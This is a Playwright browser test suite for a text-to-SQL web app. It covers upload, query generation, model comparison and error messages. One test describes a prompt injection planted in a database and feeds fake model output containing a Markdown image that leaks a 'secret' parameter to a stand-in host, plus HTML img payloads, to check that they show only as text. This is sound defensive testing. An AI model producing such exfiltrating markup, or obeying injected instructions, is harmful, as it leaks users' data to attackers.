"""A real browser on the served app: Playwright driving Debian's chromium (fake models).

    apt-get install -y chromium fonts-noto-color-emoji && pip install playwright==1.65.2
    python -m pytest tests/app/test_browser.py -v
    TEXT2SQL_SCREENSHOT_DIR=/tmp/shots python -m pytest tests/app/test_browser.py   # keep the screenshots

Skipped where chromium or playwright is missing, except under CI (CI=true), where that fails.
"""

import os
import shutil
from pathlib import Path

import pytest

from tests.app.conftest import CHROMIUM, sync_playwright


pytestmark = pytest.mark.skipif(
    not (CHROMIUM and sync_playwright) and not os.environ.get("CI"),
    reason="needs Debian's chromium and the playwright package",
)


@pytest.fixture
def page(browser, server_url):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.set_default_timeout(30_000)
    page.goto(server_url)
    page.locator("#question textarea").wait_for()
    yield page
    page.close()


def save_screenshot(page, tmp_path: Path, name: str) -> Path:
    target = tmp_path / f"{name}.png"
    page.screenshot(path=target, full_page=True)
    if os.environ.get("TEXT2SQL_SCREENSHOT_DIR"):
        keep = Path(os.environ["TEXT2SQL_SCREENSHOT_DIR"])
        keep.mkdir(parents=True, exist_ok=True)
        shutil.copy(target, keep / target.name)
    return target


def replace_sql(page, sql: str) -> None:
    editor = page.locator("#sql .cm-content")
    editor.click()
    page.keyboard.press("Control+A")
    page.keyboard.type(sql)


def test_upload_ask_edit_run_and_see_the_table(page, fake_models, example_dbs, tmp_path):
    page.get_by_label("Upload a SQLite file").check()
    page.locator("#upload input[type=file]").set_input_files(example_dbs["school"])
    summary = page.locator("#schema-summary")
    summary.get_by_text("school.sqlite").wait_for()
    assert "4 tables, 14 columns, 3 foreign keys" in summary.inner_text()

    fake_models.enqueue("SELECT name FROM students WHERE year = 1 ORDER BY name")
    page.locator("#question textarea").fill("Which students are in their first year?")
    page.locator("#generate").click()
    page.locator("#status").get_by_text("3 rows").wait_for()
    assert "WHERE year = 1" in page.locator("#sql .cm-content").inner_text()
    assert "Which students are in their first year?" in fake_models.history[-1][1]["content"]

    replace_sql(page, "SELECT name, year FROM students WHERE year = 2 ORDER BY name")
    page.locator("#run").click()
    result = page.locator("#result")
    result.get_by_role("gridcell", name="Hamza").wait_for()
    cells = result.get_by_role("gridcell").all_inner_texts()
    assert [c.strip() for c in cells if c.strip()] == ["Chiara", "2", "Dmitri", "2", "Hamza", "2"]
    assert page.get_by_role("button", name="Download CSV").is_visible()
    shot = save_screenshot(page, tmp_path, "ask-upload-run")
    assert shot.stat().st_size > 10_000


def test_a_refused_query_a_missing_question_and_a_bad_file_show_plain_messages(page, tmp_path):
    page.locator("#generate").click()
    page.locator("#note").get_by_text("Type a question first.").wait_for()

    replace_sql(page, "DELETE FROM orders")
    page.locator("#run").click()
    page.locator("#status").get_by_text("Refused: only read-only SELECT queries").wait_for()
    assert not page.locator("#result").is_visible()

    not_sqlite = tmp_path / "notes.db"
    not_sqlite.write_text("name,age\nAnn,31\n")
    page.get_by_label("Upload a SQLite file").check()
    page.locator("#upload input[type=file]").set_input_files(not_sqlite)
    page.locator("#schema-summary").get_by_text("This is not a SQLite database").wait_for()
    assert "Traceback" not in page.content()


def test_an_example_question_runs_in_one_click(page, fake_models, tmp_path):
    fake_models.enqueue("SELECT round(avg(duration_min), 1) AS minutes FROM flights")
    page.get_by_text("What is the average flight duration in minutes?").click()
    page.locator("#result").get_by_role("gridcell", name="101.4").wait_for()
    assert page.locator("#schema-summary").inner_text().startswith("flights.sqlite")
    assert page.locator("#question textarea").input_value() == "What is the average flight duration in minutes?"
    save_screenshot(page, tmp_path, "example-question")


def test_compare_tab_side_by_side(page, fake_models, tmp_path):
    fake_models.enqueue("SELECT count(*) FROM products", "SELECT count(id) FROM products", "SELECT 10")
    page.get_by_role("tab", name="Compare models").click()
    page.locator("#compare-question textarea").fill("How many products are there?")
    page.get_by_role("button", name="Compare", exact=True).click()
    page.get_by_text("All models return the same rows.").wait_for()
    assert page.get_by_text("No evaluation results yet.").is_visible()
    save_screenshot(page, tmp_path, "compare")


def test_model_output_and_errors_show_as_text_never_as_images_or_html(page, fake_models):
    """A prompt injected through the database can make the model write Markdown or HTML that
    would fetch an attacker's URL; the note and the status show it as text."""
    fake_models.enqueue("Sure! ![leak](http://127.0.0.1:9/leak.png?secret=1) <img src=x id=evil>")
    page.locator("#mode").get_by_label("Fast").check()  # auto would try other candidates
    page.locator("#question textarea").fill("List the products")
    page.locator("#generate").click()
    page.locator("#note").get_by_text("did not write a SQL query").wait_for()
    assert "![leak](http://127.0.0.1:9/leak.png?secret=1)" in page.locator("#note").inner_text()
    replace_sql(page, 'SELECT p."![l](http://127.0.0.1:9/x.png)" FROM products p')
    page.locator("#run").click()
    page.locator("#status").get_by_text("no such column").wait_for()
    assert page.locator("#note img, #status img, #evil").count() == 0
    replace_sql(page, "SELECT '<img src=x id=evil2>' AS a, '![l](http://127.0.0.1:9/y.png)' AS b")
    page.locator("#run").click()
    page.locator("#result").get_by_role("gridcell", name="<img src=x id=evil2>").wait_for()  # values are text
    assert page.locator("#result img, #evil2").count() == 0


def test_every_new_action_clears_what_was_said_about_the_last_one(page, fake_models, tmp_path):
    fake_models.enqueue("SELECT count(*) FROM orders")
    page.locator("#question textarea").fill("How many orders?")
    page.locator("#generate").click()
    page.locator("#status").get_by_text("1 row").wait_for()
    assert "Written by" in page.locator("#note").inner_text()

    replace_sql(page, "SELECT count(*) FROM orders WHERE status = 'pending'")  # the note was about the model's SQL
    page.locator("#note").get_by_text("You edited the SQL").wait_for()

    page.get_by_label("Paste a schema").check()  # a new database: the old result and notes go
    page.locator("#schema-summary").get_by_text("Paste a schema first").wait_for()
    assert page.locator("#status").inner_text().strip() == "" and not page.locator("#result").is_visible()
    page.locator("#schema-text textarea").fill("Table: users\nColumns: id, name, age")
    page.locator("#schema-text textarea").blur()
    page.locator("#schema-summary").get_by_text("pasted schema").wait_for()
    replace_sql(page, "SELECT name FROM users")
    page.locator("#run").click()
    page.locator("#status").get_by_text("The SQL is valid for this schema").wait_for()
    page.locator("#schema-text textarea").fill("Table: users\nColumns: id, name, age\nnot a schema line")
    page.locator("#schema-text textarea").blur()
    page.locator("#schema-summary").get_by_text("Line 3").wait_for()
    assert "valid for this schema" not in page.locator("#status").inner_text()

    not_sqlite = tmp_path / "notes.db"
    not_sqlite.write_text("name,age\nAnn,31\n")
    page.get_by_label("Upload a SQLite file").check()
    page.locator("#upload input[type=file]").set_input_files(not_sqlite)
    page.locator("#schema-summary").get_by_text("This is not a SQLite database").wait_for()
    page.locator("#upload button[aria-label='Clear']").click()  # then a file of another kind, refused on arrival
    other = tmp_path / "notes.txt"
    other.write_text("hello")
    page.locator("#upload input[type=file]").set_input_files(other)
    page.get_by_text("Invalid file type: notes.txt").first.wait_for()  # the browser's own check
    page.locator("#schema-summary").get_by_text("Upload a SQLite database file").wait_for()
    assert "not a SQLite database" not in page.locator("#schema-summary").inner_text()
    save_screenshot(page, tmp_path, "stale-state-cleared")
